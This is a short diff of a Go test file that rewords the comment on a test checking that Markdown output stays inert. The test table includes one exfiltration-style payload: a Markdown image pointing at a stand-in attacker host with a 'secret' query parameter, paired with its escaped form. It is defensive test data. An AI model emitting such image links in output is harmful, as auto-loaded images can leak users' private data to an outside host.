@@ -135,8 +135,8 @@ func TestPipelineTooLarge(t *testing.T) {
 	}
 }
 
-// TestMarkdownIsInert checks that data stays plain text in Markdown: no link, no image, no address that readers turn
-// into a link, and no code block that swallows what follows.
+// TestMarkdownIsInert checks that data stays plain text in Markdown. It must not become a link, an image, an address
+// that readers turn into a link, or a code block that contains the text after it.
 func TestMarkdownIsInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x\](https\://evil.example/?q=secret)`},
